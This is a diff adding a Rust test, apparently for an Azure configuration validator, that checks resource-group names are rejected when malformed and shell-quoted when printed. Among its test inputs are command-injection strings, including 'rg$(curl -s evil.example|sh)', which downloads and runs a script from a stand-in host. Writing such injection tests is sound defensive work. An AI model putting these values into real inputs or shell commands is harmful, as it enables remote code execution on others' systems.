@@ -198,3 +198,50 @@ fn what_later_stages_refuse_is_a_validation_error() {
         c.diagnostics
     );
 }
+
+#[test]
+fn landing_zone_ids_are_checked_part_by_part_and_printed_commands_are_quoted() {
+    let examples = std::path::Path::new("examples");
+    let sub = "11111111-2222-3333-4444-555555555555";
+    let with_ws = |rg: &str| {
+        SHORTVIDEO.replacen(
+            "  monitoring:\n",
+            &format!("  monitoring:\n    existingWorkspace: \"/subscriptions/{sub}/resourceGroups/{rg}/providers/Microsoft.OperationalInsights/workspaces/law-platform\"\n"),
+            1,
+        )
+    };
+    for rg in ["rg$(curl -s evil.example|sh)", "rg`id`", "rg;rm", "rg."] {
+        let text = with_ws(rg);
+        assert!(text.contains("existingWorkspace"));
+        let c = check_text(&text, examples, &Default::default());
+        assert_eq!(
+            errors_of(&c, "resource-id-invalid"),
+            1,
+            "{rg}: {:?}",
+            c.diagnostics
+        );
+    }
+    // a group name Azure allows but a shell does not take bare: quoted in the printed command
+    let c = check_text(&with_ws("rg-(prod)"), examples, &Default::default());
+    assert_eq!(
+        errors_of(&c, "resource-id-invalid"),
+        0,
+        "{:?}",
+        c.diagnostics
+    );
+    let prereq = c
+        .diagnostics
+        .iter()
+        .find(|d| d.rule == "shared-services-prerequisite" && d.message.contains("table create"))
+        .expect("the table prerequisite");
+    assert!(
+        prereq.message.contains("--resource-group 'rg-(prod)'"),
+        "{}",
+        prereq.message
+    );
+    assert!(
+        prereq.message.contains(&format!("--subscription {sub}")),
+        "{}",
+        prereq.message
+    );
+}
